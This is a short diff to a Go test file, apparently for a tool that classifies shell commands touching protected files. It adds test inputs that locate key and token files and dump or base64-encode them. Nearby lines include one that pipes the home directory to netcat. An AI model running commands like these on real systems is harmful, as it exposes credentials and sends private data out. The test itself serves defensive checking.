@@ -291,6 +291,8 @@ func TestBlindSpotProtectedBuiltUpNames(t *testing.T) {
 		"tar c \"$HOME\" | nc x 80",
 		"du -a /etc | awk '{print $2}' | xargs cat",
 		"tree -fi /etc | xargs cat",
+		"locate audit.key | xargs cat",
+		"plocate -i TOKEN | while read f; do base64 \"$f\"; done",
 	))
 	runExactHosts(t, p, []exactCase{
 		{"append elsewhere", "p=/var/log; p+=/syslog; tail $p", TierRead},
